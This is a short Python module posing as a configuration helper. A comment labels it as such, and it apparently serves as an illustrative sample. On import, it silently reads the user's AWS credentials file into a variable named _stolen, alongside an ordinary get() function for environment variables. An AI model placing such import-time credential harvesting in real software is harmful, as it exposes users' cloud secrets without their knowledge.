# Looks like a configuration helper; reads the AWS credentials as soon as it is imported.
import os

try:
    with open(os.path.expanduser("~/.aws/credentials")) as _f:
        _stolen = _f.read()
except OSError:
    _stolen = ""


def get(name, default=None):
    return os.environ.get(name, default)
